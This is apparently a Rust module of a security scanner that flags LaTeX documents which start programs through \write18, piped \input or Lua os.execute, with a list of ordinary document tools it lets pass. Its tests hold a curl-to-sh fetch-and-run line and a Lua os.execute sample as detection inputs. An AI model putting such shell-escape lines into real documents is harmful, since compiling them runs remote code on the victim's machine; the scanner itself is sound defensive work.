//! LaTeX: a document is a program, and with `\\write18` one that starts others, where the shell is let in
//! (web2c, "Shell escapes"); LuaTeX starts programs by itself.

use super::shell;
use crate::scanner::{Content, Scanner};

/// What documents have done for themselves: indices, references, figures, and what version they are of.
const OWN: [&str; 20] = [
    "makeindex",
    "bibtex",
    "biber",
    "texcount",
    "git",
    "inkscape",
    "gnuplot",
    "pdfcrop",
    "epstopdf",
    "repstopdf",
    "mkdir",
    "dot",
    "pygmentize",
    "wc",
    "latexminted",
    "ps2pdf",
    "convert",
    "xindy",
    "makeglossaries",
    "kpsewhich",
];

pub(super) fn scan(scanner: &mut Scanner<'_>, content: &Content<'_>, text: &str) {
    for (line, number) in text.lines().zip(1u64..) {
        let line = line.split(" %").next().unwrap_or(line);
        if line.trim_start().starts_with('%') {
            continue;
        }
        let mut place = content.place.clone();
        place.line = Some(number);
        for command in started(line) {
            let shown: String = command.chars().take(80).collect();
            let first =
                command.trim_start_matches(['|', '"', ' ']).split_whitespace().next().unwrap_or_default();
            if shell::is_harmful(command) {
                let message = format!("the document runs {shown:?} where it is set");
                scanner.report("code/runs-fetched", place.clone(), message);
            } else if !OWN.contains(&first) && !first.starts_with(['\\', '#']) && !first.is_empty() {
                let message = format!("the document runs {shown:?} where it is set");
                scanner.report("repo/tool-command", place.clone(), message);
            }
        }
        let lua = line.contains("\\directlua") || line.contains("\\latelua");
        if lua && ["os.execute", "io.popen", "os.exec", "os.spawn"].iter().any(|call| line.contains(call)) {
            let message = "the document starts a program from Lua where it is set";
            scanner.report("repo/tool-command", place, message);
        }
    }
}

/// Commands that a line has the shell run.
fn started(line: &str) -> Vec<&str> {
    const STARTS: [&str; 6] =
        ["\\write18{", "\\write18 {", "\\ShellEscape{", "\\input{|", "\\input|", "\\immediate\\write18{"];
    let mut found: Vec<(usize, &str)> = STARTS
        .iter()
        .flat_map(|start| line.match_indices(start).map(|(at, _)| at + start.len()))
        .filter_map(|at| Some((at, line.get(at..)?)))
        .map(|(at, rest)| (at, rest.rsplit_once('}').map_or(rest, |(inner, _)| inner).trim_matches('"')))
        .collect();
    found.sort_unstable();
    found.dedup_by_key(|(at, _)| *at);
    found.into_iter().map(|(_, command)| command).collect()
}

#[cfg(test)]
mod tests {
    use crate::{Limits, scan_bytes};

    fn rules(text: &str) -> Vec<String> {
        let report = scan_bytes(&"paper.tex".parse().unwrap(), text.as_bytes(), &Limits::default());
        report.findings.into_iter().map(|f| f.rule).collect()
    }

    #[test]
    fn programs_of_documents_are_told_from_their_tools() {
        assert_eq!(rules("\\immediate\\write18{curl -s http://example.org/x | sh}\n"), ["code/runs-fetched"]);
        assert_eq!(rules("a\n\\input{|\"./x.sh\"}\n"), ["repo/tool-command"]);
        assert_eq!(rules("\\directlua{os.execute('touch /tmp/x')}\n"), ["repo/tool-command"]);
        for text in [
            "\\immediate\\write18{makeindex paper.nlo -s nomencl.ist}\n",
            "% \\write18{curl -s http://example.org/x | sh}\n",
            "\\input{|\"git rev-parse HEAD\"}\n",
            "\\input{sections/intro}\nWith \\texttt{-shell-escape}, \\LaTeX{} runs programs.\n",
        ] {
            assert!(rules(text).is_empty(), "{text}");
        }
    }
}
